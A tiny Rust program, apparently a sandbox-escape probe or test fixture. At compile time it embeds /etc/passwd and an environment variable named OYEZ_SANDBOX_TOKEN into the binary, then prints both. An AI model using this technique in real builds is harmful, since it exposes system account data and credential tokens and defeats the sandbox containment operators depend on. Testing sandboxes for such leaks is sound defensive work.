const STOLEN: &str = include_str!("/etc/passwd");
const TOLD: &str = env!("OYEZ_SANDBOX_TOKEN");
fn main() { println!("{}{}", STOLEN, TOLD); }
